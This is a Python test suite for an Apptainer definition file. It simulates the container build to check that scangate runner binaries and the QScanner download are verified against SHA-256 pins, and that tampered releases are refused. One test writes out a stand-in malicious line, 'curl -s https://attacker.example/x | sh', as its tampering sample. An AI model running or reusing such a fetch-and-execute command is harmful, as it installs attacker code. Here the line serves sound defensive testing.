#!/usr/bin/env python3
"""Tests of the Apptainer definition file examples/apptainer/scangate.def (docs/hpc.md, "The runner as a container").

Apptainer is not installed here, so nothing is built into a SIF. What is tested is the file's own logic, run the way
Apptainer runs it: the def file is parsed into its header and sections, build arguments are substituted as
Apptainer's templating does (an undefined one is an error), %files is carried out by copying into a directory that
stands for the container's root, and the %post and %runscript bodies run under /bin/sh with their absolute paths
(/opt/scangate, /usr/local/bin) moved into that directory. The release directory is laid out as `make release`
leaves dist/ (SHA256SUMS and manifest.json written by scripts/release.py itself); `sha256sum`, `awk`, `grep` and
`install` are the real tools, `apt-get` a stand-in that records its calls. Proven: a matching runner is installed,
a tampered runner (with SHA256SUMS and manifest.json rewritten to match it) or a mixed-up release is refused with
nothing installed, the pin is required; the runscript passes every argument and the QScanner variables to the runner;
and, with the real runner (target/debug/scangate) built into the "container", the runtime QScanner download is
verified against QSCANNER_SHA256 by the runner (a wrong pin runs nothing).

Run by `make test-scripts` (and so `make test`, `make test-quick`); Python standard library only.
"""

from __future__ import annotations

import gzip
import hashlib
import http.server
import json
import os
import platform
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import unittest
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
DEF = ROOT / "examples" / "apptainer" / "scangate.def"
sys.path.insert(0, str(ROOT / "scripts"))
import release  # noqa: E402

ARCH = platform.machine()
ARCHES = ("x86_64", "aarch64")
TEMPLATE = re.compile(r"\{\{\s*(\w+)\s*\}\}")


def parse(text: str) -> tuple[dict[str, str], dict[str, str]]:
    """Header keywords and section bodies, as Apptainer splits a def file (a section starts with %name at column 0)."""
    header: dict[str, str] = {}
    sections: dict[str, list[str]] = {}
    current = None
    for line in text.splitlines():
        if m := re.match(r"^%(\w+)\s*$", line):
            current = m.group(1)
            if current in sections:
                raise AssertionError(f"section %{current} appears twice")
            sections[current] = []
        elif current is None:
            if line.strip() and not line.lstrip().startswith("#"):
                key, _, value = line.partition(":")
                header[key.strip()] = value.strip()
        else:
            sections[current].append(line)
    return header, {name: "\n".join(lines) + "\n" for name, lines in sections.items()}


def arguments(sections: dict[str, str]) -> dict[str, str]:
    defaults = {}
    for line in sections.get("arguments", "").splitlines():
        if line.strip() and not line.lstrip().startswith("#"):
            key, _, value = line.strip().partition("=")
            defaults[key] = value
    return defaults


def render(text: str, build_args: dict[str, str], defaults: dict[str, str]) -> str:
    """Apptainer's build-argument templating: --build-arg first, then %arguments; anything else is an error."""
    def value(m: re.Match) -> str:
        name = m.group(1)
        if name in build_args:
            return build_args[name]
        if name in defaults:
            return defaults[name]
        raise KeyError(f"build var {name} is not defined through either --build-arg or 'arguments' section")
    return TEMPLATE.sub(value, text)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def fake_runner(arch: str) -> bytes:
    return (f"#!/bin/sh\n# fake scangate runner for {arch}\n"
            'if [ "$1" = --version ]; then echo "scangate 0.0.0 (fake ' + arch + ')"; exit 0; fi\n'
            'printf "%s\\n" "$@" > "$FAKE_RUNNER_ARGS"\n'
            'env | grep "^QSCANNER_" | sort > "$FAKE_RUNNER_ENV"\n').encode()


def write_release(dist: Path, runners: dict[str, bytes]) -> None:
    """dist/ as `make release` leaves it: the runners, then SHA256SUMS and manifest.json from release.py itself."""
    dist.mkdir(parents=True, exist_ok=True)
    for arch, data in runners.items():
        path = dist / f"scangate-{arch}-linux"
        path.write_bytes(data)
        path.chmod(0o755)
    real_check_elf = release.check_elf
    release.check_elf = lambda path, arch: {"glibc": "2.17", "needed": ["libc.so.6"]}  # the fakes are scripts
    try:
        release.write_manifest(dist, [f"runner:{'arm64' if a == 'aarch64' else a}:{a}-unknown-linux-gnu:scangate-{a}-linux"
                                      for a in runners])
    finally:
        release.check_elf = real_check_elf


class Build:
    """One simulated `apptainer build`: %files into a root directory, then %post under /bin/sh."""

    def __init__(self, tmp: Path, build_args: dict[str, str]) -> None:
        self.tmp = tmp
        self.root = tmp / "container"
        self.header, self.sections = parse(DEF.read_text())
        self.defaults = arguments(self.sections)
        self.build_args = build_args
        self.apt_log = tmp / "apt.log"
        self.stubs = tmp / "stubs"
        self.stubs.mkdir(exist_ok=True)
        apt = self.stubs / "apt-get"
        apt.write_text('#!/bin/sh\necho "apt-get $*" >> "$APT_LOG"\n')
        apt.chmod(0o755)

    def inside(self, body: str) -> str:
        for path in ("/opt/scangate", "/usr/local/bin"):
            body = body.replace(path, f"{self.root}{path}")
        return body

    def section(self, name: str) -> str:
        return render(self.sections[name], self.build_args, self.defaults)

    def files(self) -> None:
        for line in self.section("files").splitlines():
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            src, dest = line.split()
            target = self.root / dest.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(src, target)

    def run(self, name: str, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
        script = self.tmp / f"{name}.sh"
        script.write_text(self.inside(self.section(name)))
        full = {"PATH": f"{self.stubs}:/usr/local/bin:/usr/bin:/bin", "APT_LOG": str(self.apt_log),
                "HOME": str(self.tmp), "TMPDIR": str(self.tmp)}
        full.update(env or {})
        return subprocess.run(["/bin/sh", "-e", str(script), *args], env=full, capture_output=True, text=True,
                              timeout=120)

    def build(self) -> subprocess.CompletedProcess:
        (self.root / "usr/local/bin").mkdir(parents=True, exist_ok=True)
        self.files()
        return self.run("post")

    @property
    def installed(self) -> Path:
        return self.root / "usr/local/bin/scangate"

    def apt_calls(self) -> list[str]:
        return self.apt_log.read_text().splitlines() if self.apt_log.exists() else []


class DefFile(unittest.TestCase):
    def setUp(self) -> None:
        self._tmp = tempfile.TemporaryDirectory()
        self.tmp = Path(self._tmp.name)
        self.dist = self.tmp / "dist"
        self.runners = {a: fake_runner(a) for a in ARCHES}
        write_release(self.dist, self.runners)
        self.pin = hashlib.sha256(self.runners.get(ARCH, b"")).hexdigest()

    def tearDown(self) -> None:
        self._tmp.cleanup()

    def build(self, pin: str | None = None) -> tuple[Build, subprocess.CompletedProcess]:
        args = {"RELEASE_DIR": str(self.dist)}
        args["RUNNER_SHA256"] = self.pin if pin is None else pin
        b = Build(self.tmp, args)
        return b, b.build()

    def test_the_file_has_apptainer_s_shape_and_names_what_make_release_ships(self) -> None:
        text = DEF.read_text()
        self.assertTrue(text.startswith("Bootstrap: docker\n"), "Bootstrap must be the first keyword")
        header, sections = parse(text)
        self.assertEqual(header, {"Bootstrap": "docker", "From": "debian:bookworm-slim"})
        self.assertEqual(set(sections), {"arguments", "files", "post", "test", "runscript", "labels", "help"})
        self.assertEqual(set(TEMPLATE.findall(text)), {"RELEASE_DIR", "RUNNER_SHA256"})
        self.assertNotIn("RUNNER_SHA256", arguments(sections), "the pin must have no default")
        shipped = set(re.findall(r"runner:\w+:[\w.-]+:(scangate-[\w]+-linux)", (ROOT / "scripts/release.sh").read_text()))
        files = render(sections["files"], {"RELEASE_DIR": "/dist"}, {})
        copied = {Path(line.split()[0]).name for line in files.splitlines() if line.strip()}
        self.assertEqual(copied, shipped | {"SHA256SUMS", "manifest.json"}, "%files and make release disagree")
        self.assertIn('exec /usr/local/bin/scangate "$@"', sections["runscript"])

    @unittest.skipUnless(ARCH in ARCHES, f"no release runner for {ARCH}")
    def test_a_matching_runner_is_installed(self) -> None:
        b, out = self.build()
        self.assertEqual(out.returncode, 0, out.stderr)
        self.assertEqual(b.installed.read_bytes(), self.runners[ARCH])
        self.assertEqual(b.installed.stat().st_mode & 0o777, 0o755)
        self.assertIn(f"scangate 0.0.0 (fake {ARCH})", out.stdout, "the installed runner was not started")
        self.assertEqual(sorted(p.name for p in (b.root / "opt/scangate/release").iterdir()),
                         ["SHA256SUMS", "manifest.json"], "the release's runners stay in the image")
        self.assertEqual(b.apt_calls(), ["apt-get update", "apt-get install -y --no-install-recommends ca-certificates"])

    @unittest.skipUnless(ARCH in ARCHES, f"no release runner for {ARCH}")
    def test_a_tampered_runner_is_refused_even_when_the_release_files_agree_with_it(self) -> None:
        evil = self.runners[ARCH] + b"curl -s https://attacker.example/x | sh\n"
        write_release(self.dist, {**self.runners, ARCH: evil})  # SHA256SUMS and manifest.json rewritten to match
        b, out = self.build()
        self.assertNotEqual(out.returncode, 0, "a tampered runner was installed")
        self.assertIn(f"has SHA-256 {hashlib.sha256(evil).hexdigest()}, RUNNER_SHA256 is {self.pin}", out.stderr)
        self.assertFalse(b.installed.exists(), "something was installed")
        self.assertEqual(list((b.root / "opt/scangate/release").glob("scangate-*")), [], "runners left in the image")
        self.assertEqual(b.apt_calls(), [], "the build went on after the refusal")

    @unittest.skipUnless(ARCH in ARCHES, f"no release runner for {ARCH}")
    def test_a_mixed_up_release_is_refused(self) -> None:
        sums = self.dist / "SHA256SUMS"
        sums.write_text(sums.read_text().replace(self.pin, "0" * 64))
        b, out = self.build()
        self.assertNotEqual(out.returncode, 0)
        self.assertIn("SHA256SUMS lists", out.stderr)
        self.assertFalse(b.installed.exists())
        write_release(self.dist, self.runners)
        manifest = self.dist / "manifest.json"
        manifest.write_text(manifest.read_text().replace(self.pin, "1" * 64))
        b, out = self.build()
        self.assertNotEqual(out.returncode, 0)
        self.assertIn("manifest.json does not list", out.stderr)
        self.assertFalse(b.installed.exists())

    def test_the_pin_is_required_and_must_be_a_sha256(self) -> None:
        b = Build(self.tmp, {"RELEASE_DIR": str(self.dist)})
        with self.assertRaisesRegex(KeyError, "RUNNER_SHA256 is not defined"):
            b.section("post")
        for pin in ("", self.pin.upper(), self.pin[:63], self.pin + "0", "g" * 64):
            with self.subTest(pin=pin):
                b, out = self.build(pin)
                self.assertNotEqual(out.returncode, 0)
                self.assertIn("RUNNER_SHA256 must be", out.stderr)
                self.assertFalse(b.installed.exists())

    @unittest.skipUnless(ARCH in ARCHES, f"no release runner for {ARCH}")
    def test_the_runscript_hands_every_argument_and_the_qscanner_pin_to_the_runner(self) -> None:
        b, out = self.build()
        self.assertEqual(out.returncode, 0, out.stderr)
        args_file, env_file = self.tmp / "args", self.tmp / "env"
        argv = ["scan", "rootfs", "/images/app dir", "--target", "/shared/images/app.sif", "--local"]
        run = b.run("runscript", *argv, env={"FAKE_RUNNER_ARGS": str(args_file), "FAKE_RUNNER_ENV": str(env_file),
                                             "QSCANNER_URL": "https://mirror.example/qscanner.gz",
                                             "QSCANNER_SHA256": "ab" * 32})
        self.assertEqual(run.returncode, 0, run.stderr)
        self.assertEqual(args_file.read_text().splitlines(), argv)
        self.assertEqual(env_file.read_text().splitlines(),
                         ["QSCANNER_SHA256=" + "ab" * 32, "QSCANNER_URL=https://mirror.example/qscanner.gz"])


def cargo_artifacts() -> tuple[Path, Path]:
    """The real runner and the fake QScanner (built by `cargo test`; built here when missing)."""
    target = Path(os.environ.get("CARGO_TARGET_DIR", ROOT / "target"))
    runner, fake = target / "debug" / "scangate", target / "debug" / "examples" / "fake_qscanner"
    if not (runner.is_file() and fake.is_file()):
        subprocess.run(["cargo", "build", "-p", "scangate-cli", "--bin", "scangate", "--example", "fake_qscanner"],
                       cwd=ROOT, check=True)
    return runner, fake


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args) -> None:  # noqa: D401 - keep the test output clean
        pass


class RealRunner(unittest.TestCase):
    """The image's runner is the real one: QScanner is downloaded at run time and checked by the runner itself."""

    def test_the_runtime_qscanner_download_is_verified_against_the_pin(self) -> None:
        runner, fake_qscanner = cargo_artifacts()
        with tempfile.TemporaryDirectory() as tmp:
            tmp = Path(tmp)
            dist, served = tmp / "dist", tmp / "served"
            served.mkdir()
            runners = {ARCH: runner.read_bytes()}
            write_release(dist, runners)
            b = Build(tmp, {"RELEASE_DIR": str(dist), "RUNNER_SHA256": sha256(dist / f"scangate-{ARCH}-linux")})
            (tmp / "container/usr/local/bin").mkdir(parents=True)
            # %files names both architectures; this release (as a one-machine test) has this one only.
            for other in ARCHES:
                if other != ARCH:
                    (dist / f"scangate-{other}-linux").write_bytes(b"not this machine's")
            out = b.build()
            self.assertEqual(out.returncode, 0, out.stderr)
            self.assertIn("scangate ", out.stdout)

            (served / "qscanner.gz").write_bytes(gzip.compress(fake_qscanner.read_bytes()))
            pin = sha256(served / "qscanner.gz")
            handler = lambda *a, **k: Quiet(*a, directory=str(served), **k)  # noqa: E731
            server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
            threading.Thread(target=server.serve_forever, daemon=True).start()
            try:
                url = f"http://127.0.0.1:{server.server_address[1]}/qscanner.gz"
                record = tmp / "record.jsonl"

                def scan(sha: str) -> subprocess.CompletedProcess:
                    work = Path(tempfile.mkdtemp(dir=tmp))
                    return b.run("runscript", "scan", "image", "app:1.0", env={
                        "QSCANNER_URL": url, "QSCANNER_SHA256": sha, "QSCANNER_CACHE_DIR": str(tmp / "cache"),
                        "QUALYS_ACCESS_TOKEN": "qtok-test", "QUALYS_POD": "US2",
                        "FAKE_QSCANNER_RECORD": str(record), "SCANGATE_WORK_DIR": str(work)})

                wrong = scan("0" * 64)
                self.assertEqual(wrong.returncode, 1, wrong.stderr)
                self.assertIn(pin, wrong.stderr, "the mismatch does not name the download's checksum")
                self.assertFalse(record.exists(), "QScanner ran although its checksum did not match the pin")
                right = scan(pin)
                self.assertEqual(right.returncode, 0, right.stderr)
                self.assertIn("SHA-256 verified", right.stderr)
                self.assertEqual(len(record.read_text().splitlines()), 1, "the verified QScanner did not run once")
            finally:
                server.shutdown()
                server.server_close()


if __name__ == "__main__":
    unittest.main(verbosity=2)
